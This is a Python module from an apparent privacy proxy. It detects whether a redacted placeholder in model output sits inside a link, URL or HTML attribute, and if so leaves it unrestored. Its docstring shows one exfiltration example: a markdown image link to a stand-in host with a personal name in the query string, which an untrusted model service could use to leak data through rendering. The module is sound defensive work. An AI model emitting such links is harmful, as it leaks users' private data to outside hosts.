"""Places where restored text would leave the user's machine: addresses, link targets, attributes of HTML.

A model service that is not trusted can ask for ``![](https://its.host/?q=<PERSON_...>)``; whoever renders the answer
would send the name there. So nothing is restored inside of a link, unless that very link stood in what was asked.
"""

from __future__ import annotations

import re

LOOK_BACK = 2048
_ENDS = r"\s\"'<>`，。；、（）「」"
_ADDRESS = re.compile(
    r"(?:[a-z][a-z0-9+.\-]{0,20}://|(?<![:\w])//|\bwww\.|\b(?:data|javascript|mailto|tel|sms|magnet|file|blob):"
    rf"|\b(?:[a-z0-9\-]+\.)+[a-z]{{2,}}(?::\d+)?[/?#])[^{_ENDS}]*\Z",
    re.IGNORECASE,
)
_TARGET = re.compile(r"\]\([^)\n]*\Z|\b(?:java|vb)script:[^\n]*\Z|\]:[ \t]*\S*\Z|\burl\([^)\n]*\Z", re.IGNORECASE)
_MARKS = ("](", "]:", "url(", "script:")
_LAST_END = re.compile(f"[{_ENDS}]")
_TAG = re.compile(r"<[a-z][a-z0-9\-]*[\s/](?:\"[^\"]*\"|'[^']*'|[^<>\"'])*(?:\"[^\"]*|'[^']*)?\Z", re.IGNORECASE)
_WHOLE_HOST = re.compile(r"^[^/]*//[^/?#]+[/?#]|^[^/?#:]+[/?#]")
_ESCAPE = re.compile(r"\\u([0-9a-fA-F]{4})|\\(.)")
_PLAIN = {"n": "\n", "r": "\r", "t": "\t", "b": " ", "f": " "}


def link_before(left: str, placeholders: list[tuple[int, int]], *, escaped: bool) -> str | None:
    """The beginning of a link that the end of ``left`` stands inside of; empty where it has no address; else None.

    Args:
        left: The text before a placeholder, as it came from the upstream.
        placeholders: Where others stand in it.
        escaped: Whether it is the inside of JSON, where an address may hide behind escapes.
    """
    if not left:
        return None
    visible = list(left)
    for start, end in placeholders:  # the brackets of a placeholder end no address
        visible[start:end] = "P" * (end - start)
    plain, shown = "".join(visible), left
    if escaped:
        plain, shown = (_ESCAPE.sub(_unescaped, text) for text in (plain, shown))
    word = next((at.end() for at in _LAST_END.finditer(plain[::-1])), None)  # from the end
    first = 0 if word is None else len(plain) - word + 1
    if first < len(plain) and (address := _ADDRESS.search(plain, first)) is not None:
        return shown[address.start() :] if len(shown) == len(plain) else plain[address.start() :]
    line = plain[plain.rfind("\n") + 1 :].lower()
    if any(mark in line for mark in _MARKS) and _TARGET.search(line):
        return ""
    return "" if "<" in plain and _TAG.search(plain, plain.index("<")) else None


def has_whole_host(link: str) -> bool:
    """Whether the host of a link is complete, so that nothing behind can change where it leads."""
    return _WHOLE_HOST.match(link) is not None


def _unescaped(match: re.Match[str]) -> str:
    return chr(int(match[1], 16)) if match[1] else _PLAIN.get(match[2], match[2])
